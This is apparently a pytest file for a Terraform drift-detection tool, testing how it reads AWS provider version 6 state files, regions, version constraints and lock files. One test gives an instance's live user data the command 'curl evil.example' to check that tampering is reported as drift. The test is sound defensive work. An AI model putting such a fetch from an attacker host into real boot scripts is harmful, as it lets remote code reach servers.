"""States and configurations of version 6 of the AWS provider, by hand: its "Version 6 Upgrade Guide" is the source."""

from __future__ import annotations

import base64
import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from drift.desired.hcl.inputs import Given
from drift.desired.hcl.read import Sources
from drift.desired.load import build, read_states
from drift.desired.overlay import overlay
from drift.desired.versions import least, locked, recorded
from drift.model.resource import Resource
from drift.provider.installed import installed
from drift.providers.aws.types.ec2_compute import user_data_hash
from tests.support.made import MadeApi
from tests.support.world import lines, run

AWS = 'provider["registry.terraform.io/hashicorp/aws"]'
ARN = "arn:aws:{}:eu-west-1:123456789012:{}"


def states(tmp_path: Path, **types: dict[str, Any]) -> Path:
    resources = [
        {"mode": "managed", "type": name, "name": "x", "provider": AWS, "instances": [{"attributes": attributes}]}
        for name, attributes in types.items()
    ]
    state = {"version": 4, "terraform_version": "1.12.2", "serial": 1, "lineage": "six", "resources": resources}
    path = tmp_path / "terraform.tfstate"
    path.write_text(json.dumps(state))
    return path


def desired(path: Path) -> dict[str, Resource]:
    read, failed = read_states([str(path)], {})
    assert not failed
    found = build(read, [], installed(), account="123456789012", region="us-east-1")
    assert not found.warnings
    assert not found.not_covered
    return {r.type: r for r in found.resources}


# type -> what both versions record, what version 5 alone does, what version 6 alone does
BOTH: dict[str, tuple[dict[str, Any], dict[str, Any], dict[str, Any]]] = {
    "aws_api_gateway_account": ({"id": "api-gateway-account", "cloudwatch_role_arn": ""}, {"reset_on_delete": None}, {}),
    "aws_batch_compute_environment": (
        {"id": "jobs", "arn": ARN.format("batch", "compute-environment/jobs"), "state": "ENABLED", "type": "MANAGED"},
        {"compute_environment_name": "jobs", "compute_environment_name_prefix": ""},
        {"name": "jobs", "name_prefix": ""},
    ),
    "aws_ecs_task_definition": (
        {"id": "web", "family": "web", "revision": 3, "arn": ARN.format("ecs", "task-definition/web:3"), "container_definitions": "[]"},
        {"inference_accelerator": []},
        {},
    ),
    "aws_eip": ({"id": "eipalloc-0a1b2c3d", "allocation_id": "eipalloc-0a1b2c3d", "domain": "vpc"}, {"vpc": True}, {}),
    "aws_eks_addon": (
        {"id": "main:coredns", "cluster_name": "main", "addon_name": "coredns", "addon_version": "v1.11.4-eksbuild.2"},
        {"resolve_conflicts": None},
        {"namespace_config": []},
    ),
    "aws_flow_log": (
        {"id": "fl-0a1b2c3d", "vpc_id": "vpc-0a1b2c3d", "traffic_type": "ALL", "log_destination_type": "cloud-watch-logs",
         "log_destination": "arn:aws:logs:eu-west-1:123456789012:log-group:flows"},
        {"log_group_name": "flows"},
        {"regional_nat_gateway_id": "", "tag_field_specification": []},
    ),
    "aws_launch_template": (
        {"id": "lt-0a1b2c3d", "name": "web", "image_id": "ami-0a1b2c3d", "ebs_optimized": "true"},
        {"elastic_gpu_specifications": [], "elastic_inference_accelerator": []},
        {"network_performance_options": [], "secondary_interfaces": []},
    ),
    "aws_redshift_cluster": (
        {"id": "dw", "cluster_identifier": "dw", "node_type": "ra3.large", "publicly_accessible": False},
        {"encrypted": True, "logging": [], "snapshot_copy": []},
        {"encrypted": "true"},
    ),
    "aws_s3_bucket": (
        {"id": "logs-1", "bucket": "logs-1", "arn": "arn:aws:s3:::logs-1", "force_destroy": False},
        {},
        {"bucket_region": "eu-west-1", "bucket_namespace": ""},
    ),
    "aws_sagemaker_notebook_instance": (
        {"id": "nb", "name": "nb", "instance_type": "ml.t3.medium", "root_access": "Enabled"}, {"accelerator_types": []}, {},
    ),
    "aws_ssm_association": (
        {"id": "a-1", "association_id": "a-1", "name": "AWS-RunPatchBaseline", "association_name": "patch"},
        {"instance_id": ""},
        {"calendar_names": []},
    ),
    "aws_sqs_queue": (
        {"id": "https://sqs.eu-west-1.amazonaws.com/123456789012/q", "url": "https://sqs.eu-west-1.amazonaws.com/123456789012/q",
         "name": "q", "visibility_timeout_seconds": 30},
        {},
        {},
    ),
}  # fmt: skip


@pytest.mark.parametrize("type_", BOTH)
def test_both_versions_record_the_same_resource(type_: str, tmp_path: Path) -> None:
    both, five, six = BOTH[type_]
    (tmp_path / "5").mkdir()
    (tmp_path / "6").mkdir()
    old = desired(states(tmp_path / "5", **{type_: {**both, **five}}))[type_]
    new = desired(states(tmp_path / "6", **{type_: {**both, **six, "region": "eu-west-1"}}))[type_]
    entry = installed()[type_]
    gone = five.keys() - six.keys() - {*installed()[type_].identity}

    assert new.key.identity == old.key.identity
    assert new.id == old.id
    assert new.key.region == ("eu-west-1" if entry.regional else old.key.region)
    same = {n: v for n, v in old.attributes.items() if n not in gone} if type_ not in RENAMED else old.attributes
    assert {n: v for n, v in new.attributes.items() if n in old.attributes} == same


RENAMED = {"aws_batch_compute_environment"}


def test_each_resource_is_where_its_region_says(tmp_path: Path) -> None:
    queue = {"id": "q", "url": "https://sqs.eu-west-1.amazonaws.com/123456789012/q", "name": "q"}
    topic = {"id": "t", "arn": "arn:aws:sns:us-east-1:123456789012:t", "name": "t"}
    table = {"id": "rtb-0a1b2c3d", "vpc_id": "vpc-0a1b2c3d"}
    found = desired(
        states(
            tmp_path,
            aws_sqs_queue={**queue, "region": "eu-west-1"},
            aws_sns_topic={**topic, "region": "us-east-1"},
            aws_route_table={**table, "region": "sa-east-1"},
        )
    )

    assert {t: r.key.region for t, r in found.items()} == {
        "aws_sqs_queue": "eu-west-1", "aws_sns_topic": "us-east-1", "aws_route_table": "sa-east-1",
    }  # fmt: skip
    assert {r.key.account for r in found.values()} == {"123456789012"}


CLUSTER = {
    "ClusterIdentifier": "dw", "NodeType": "ra3.large", "ClusterStatus": "available", "Encrypted": True, "PubliclyAccessible": False,
}  # fmt: skip


@pytest.mark.parametrize(("encrypted", "told"), [(True, []), (False, ["modified aws_redshift_cluster.x encrypted"])])
def test_a_flag_recorded_as_text_is_a_flag(encrypted: bool, told: list[str], tmp_path: Path) -> None:
    both, _, six = BOTH["aws_redshift_cluster"]
    api = MadeApi({"redshift:DescribeClusters": {"Clusters": [{**CLUSTER, "Encrypted": encrypted}]}})
    state = states(tmp_path, aws_redshift_cluster={**both, **six, "region": "us-east-1"})

    assert lines(run(state, api, only=("aws_redshift_cluster",))) == told


@pytest.mark.parametrize(("live", "told"), [("echo hello", False), ("curl evil.example", True)])
def test_user_data_in_clear_text(live: str, told: bool, tmp_path: Path) -> None:
    plain = "echo hello"
    state = states(tmp_path, aws_instance={"id": "i-0a1b2c3d", "user_data": plain, "region": "us-east-1"})
    want = desired(state)["aws_instance"].attributes["user_data"]
    have = user_data_hash(base64.b64encode(live.encode()).decode())

    assert (want != have) is told
    assert want == hashlib.sha1(plain.encode()).hexdigest()


# which version


def test_records_tell_the_version(tmp_path: Path) -> None:
    def told(**attributes: Any) -> Any:
        read, _ = read_states([str(states(tmp_path, aws_sqs_queue={"id": "q", "name": "q", **attributes}))], {})
        return recorded(read[0].instances, installed())

    assert told() == {}
    assert told(region="eu-west-1") == {"aws": 6}
    assert told(region=None) == {"aws": 6}
    assert told(no_schema_has_this=1) == {}


def test_a_region_that_version_5_has_too_tells_nothing(tmp_path: Path) -> None:
    read, _ = read_states([str(states(tmp_path, aws_s3_bucket={"id": "b", "bucket": "b", "region": "eu-west-1"}))], {})
    assert recorded(read[0].instances, installed()) == {}


@pytest.mark.parametrize(
    ("constraint", "major"),
    [("~> 6.0", 6), (">= 6.2, < 7.0", 6), ("6.1.0", 6), ("= 5.100.0", 5), (">= 5.0", 5), ("< 7.0", 0), ("", 0)],
)
def test_the_least_version_of_a_constraint(constraint: str, major: int) -> None:
    assert least(constraint) == major


LOCK = """# This file is maintained automatically by "terraform init".

provider "registry.terraform.io/hashicorp/random" {
  version = "3.7.2"
  hashes = [
    "h1:abc=",
  ]
}

provider "registry.terraform.io/hashicorp/aws" {
  version     = "6.69.1"
  constraints = "~> 6.0"
}
"""


def test_the_lock_file_names_the_versions(tmp_path: Path) -> None:
    assert locked(tmp_path) == {}
    (tmp_path / ".terraform.lock.hcl").write_text(LOCK)
    assert locked(tmp_path) == {"random": 3, "aws": 6}


# configurations

REQUIRED = """terraform {{
  required_providers {{
    aws = {{
      source  = "hashicorp/aws"
      version = "{}"
    }}
  }}
}}
"""
MAIN = """
provider "aws" { region = "us-east-1" }
resource "aws_sqs_queue" "here"  { name = "here" }
resource "aws_sqs_queue" "there" {
  region = "eu-west-1"
  name   = "in-${aws_sqs_queue.here.region}"
}
resource "aws_s3_bucket" "there" {
  region = var.region
  bucket = "b-${aws_sqs_queue.there.region}"
}
variable "region" { default = "sa-east-1" }
"""


def evaluated(tmp_path: Path, main: str = MAIN, version: str = "~> 6.0") -> Any:
    (tmp_path / "main.tf").write_text(REQUIRED.format(version) + main)
    return Sources(tmp_path, Given()).evaluated()


def test_the_region_of_a_resource_is_evaluated(tmp_path: Path) -> None:
    found = evaluated(tmp_path).instances

    assert found["aws_sqs_queue.here"].provider.region == "us-east-1"
    assert found["aws_sqs_queue.there"].provider.region == "eu-west-1"
    assert found["aws_s3_bucket.there"].provider.region == "sa-east-1"


def test_a_region_that_nobody_sets_is_the_providers(tmp_path: Path) -> None:
    found = evaluated(tmp_path).instances

    assert found["aws_sqs_queue.there"].values["name"] == "in-us-east-1"
    assert found["aws_s3_bucket.there"].values["bucket"] == "b-eu-west-1"


def test_the_version_of_a_configuration(tmp_path: Path) -> None:
    assert evaluated(tmp_path).majors == {"aws": 6}
    assert evaluated(tmp_path, version=">= 5.0").majors == {"aws": 5}
    (tmp_path / ".terraform.lock.hcl").write_text(LOCK)
    assert evaluated(tmp_path, version=">= 5.0").majors["aws"] == 6


DEFAULTS = """
resource "aws_redshift_cluster" "x" {
  cluster_identifier = "dw"
  node_type          = "ra3.large"
}
"""


@pytest.mark.parametrize(("version", "public"), [("~> 5.0", True), ("~> 6.0", False)])
def test_defaults_are_those_of_the_version(version: str, public: bool, tmp_path: Path) -> None:
    found = evaluated(tmp_path, DEFAULTS, version).instances["aws_redshift_cluster.x"]
    assert found.derived["publicly_accessible"] is public


BATCH = """
resource "aws_batch_compute_environment" "x" {
  name  = "jobs"
  type  = "MANAGED"
  state = "DISABLED"
}
"""


def test_a_renamed_argument_is_compared_under_the_name_that_is_known(tmp_path: Path) -> None:
    both, _, six = BOTH["aws_batch_compute_environment"]
    (tmp_path / "state").mkdir()
    path = states(tmp_path / "state", aws_batch_compute_environment={**both, **six, "region": "eu-west-1"})
    read, _ = read_states([str(path)], {})
    laid = overlay(read[0], evaluated(tmp_path, BATCH))
    (found,) = build([laid], [], installed(), account="123456789012").resources

    assert found.key.identity == ("jobs",)
    assert found.asserted == frozenset({"compute_environment_name", "type", "state"})
    assert found.configured["state"] == "DISABLED"
    assert found.configured["compute_environment_name"] == "jobs"
    assert "name" not in found.undeclared
    assert "compute_environment_name" not in found.undeclared
